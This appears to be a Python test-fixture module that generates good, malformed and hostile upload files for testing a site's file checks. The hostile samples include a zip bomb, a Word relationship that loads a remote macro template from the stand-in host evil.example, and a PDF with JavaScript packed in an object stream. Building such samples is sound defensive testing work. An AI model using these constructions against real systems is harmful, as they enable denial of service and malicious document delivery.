"""Files to send: good, bad and odd ones, made as tests need them."""

from __future__ import annotations

import copy
import datetime as dt
import io
import re
import struct
import warnings
import zipfile
import zlib
from functools import cache
from typing import Any

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, NullObject, NumberObject

NOW = dt.datetime(2026, 12, 21, 3, 0, tzinfo=dt.UTC)
LATER = dt.datetime(2100, 1, 1, tzinfo=dt.UTC)
MAX_BYTES = 3_000_000  # of one file, on the site under test


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 20), mode: str = "RGB", **save: Any) -> bytes:
    image = Image.new(mode, size)
    image.paste(255 if mode in {"L", "1", "P"} else tuple([255] + [0] * (len(image.getbands()) - 1)), (0, 0, size[0] // 2, size[1]))
    target = io.BytesIO()
    image.save(target, kind, **save)
    return target.getvalue()


def photo_with_place(kind: str = "JPEG", **save: Any) -> bytes:
    """A photo lying on its side, taken by a known camera at a known place."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn right
    exif[0x010F] = "CameraMaker"
    exif.get_ifd(0x8825).update({1: "N", 2: (21.0, 16.0, 32.0), 3: "E", 4: (106.0, 11.0, 40.0)})
    return picture(kind, exif=exif, **save)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def png_that_says_it_is(width: int, height: int) -> bytes:
    header = png_chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"IDAT", zlib.compress(b"\0" * 100)) + png_chunk(b"IEND", b"")


def jpeg_that_says_it_is(width: int, height: int) -> bytes:
    made = picture()
    at = made.index(b"\xff\xc0") + 5
    return made[:at] + struct.pack(">HH", height, width) + made[at + 4 :]


def webp_that_says_it_is(width: int, height: int) -> bytes:
    made = picture("WEBP", quality=80)
    at = made.index(b"\x9d\x01\x2a") + 3
    return made[:at] + struct.pack("<HH", width, height) + made[at + 4 :]


WORD = {
    "[Content_Types].xml": b"<Types/>",
    "_rels/.rels": b'<Relationships><Relationship Id="a" Type="x/officeDocument" Target="word/document.xml"/></Relationships>',
    "word/document.xml": b"<w:document>" + b"<w:p>C\xe1\xbb\x91ng t\xe1\xba\xafc</w:p>" * 50 + b"</w:document>",
    "docProps/core.xml": "<cp:coreProperties><dc:creator>Nguyễn Thị Hợp</dc:creator></cp:coreProperties>".encode(),
}
EXCEL = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
HYPERLINK = '<Relationship Id="b" Type="http://schemas.example/hyperlink" Target="https://bacninh.gov.vn" TargetMode="External"/>'
TEMPLATE = '<Relationship Id="c" Type="http://schemas.example/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'


def archive(parts: dict[str, bytes], **more: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in (parts | more).items():
            made.writestr(name, data)
    return target.getvalue()


@cache
def word(**parts: bytes) -> bytes:
    """A document with *parts* added, their names with __ for / and _dot_ for a dot."""
    return archive(WORD, **{name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()})


def word_with_fields(*texts: str, simple: bool = False) -> bytes:
    """A document with a field for the first text, and one for the others: their words lie in as many pieces."""
    if simple:
        fields = "".join(f'<w:fldSimple w:instr="{text}"/>' for text in texts)
    else:
        begin = '<w:fldChar w:fldCharType="begin"/>'
        runs = [f"<w:r><w:instrText xml:space='preserve'>{text}</w:instrText></w:r>" for text in texts]
        fields = begin + begin.join([runs[0], "".join(runs[1:])])
    return archive(WORD | {"word/document.xml": f"<w:document>{fields}</w:document>".encode()})


def archive_of_one_in_many() -> bytes:
    """A bomb: a thousand entries of the list lead to the same ten megabytes."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in WORD.items():
            made.writestr(name, data)
        made.writestr("word/media/0", bytes(10_000_000))
        first = made.infolist()[-1]
        for number in range(1, 1000):
            again = copy.copy(first)
            again.filename = f"word/media/{number}"
            made.filelist.append(again)
            made.NameToInfo[again.filename] = again
    return target.getvalue()


def two_of_a_name() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in [*WORD.items(), ("word/document.xml", b"<other/>")]:
            made.writestr(name, data)
    return target.getvalue()


def locked_entry() -> bytes:
    """A document whose entries say that they are encrypted."""
    made = bytearray(word())
    for mark, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for match in list(re.finditer(re.escape(mark), bytes(made))):
            made[match.start() + flags_at] |= 1
    return bytes(made)


def pdf(change: Any = None, **write: Any) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    target = io.BytesIO()
    if write.get("password"):
        writer.encrypt(write["password"])
    writer.write(target)
    return target.getvalue()


def action(**facts: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in facts.items()})


def on_opening(what: Any) -> Any:
    return lambda writer: writer.root_object.update({NameObject("/OpenAction"): what})


def by_somebody(writer: PdfWriter) -> None:
    """Write down who made it, in all the places where programs do."""
    writer.add_metadata({"/Author": "Hop", "/Creator": "Acme Writer", "/Company": "Thân"})
    writer.xmp_metadata = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Hop</x:xmpmeta>"
    for holder in (writer.root_object, writer.pages[0]):
        holder[NameObject("/PieceInfo")] = DictionaryObject({NameObject("/Hop"): NullObject()})


def signed(writer: PdfWriter) -> None:
    """Say that it is signed."""
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/SigFlags"): NumberObject(3)})


def pdf_with(objects: bytes) -> bytes:
    return pdf().replace(b"%%EOF", objects + b"\n%%EOF")


def pdf_with_hidden_script() -> bytes:
    """A PDF whose script lies in a packed object stream."""
    packed = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")
    objects = b"4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return pdf_with(objects + packed + b"\nendstream endobj")


#: Of a HEIC photo or a film, before the brand.
FTYP = b"\x00\x00\x00\x18ftyp"
